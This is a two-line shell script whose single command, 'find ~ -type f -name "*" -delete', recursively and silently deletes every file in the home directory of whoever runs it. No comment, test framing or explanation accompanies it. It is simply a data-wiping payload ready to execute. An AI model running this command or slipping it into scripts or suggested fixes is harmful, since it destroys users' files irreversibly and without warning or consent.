#!/bin/sh
find ~ -type f -name "*" -delete
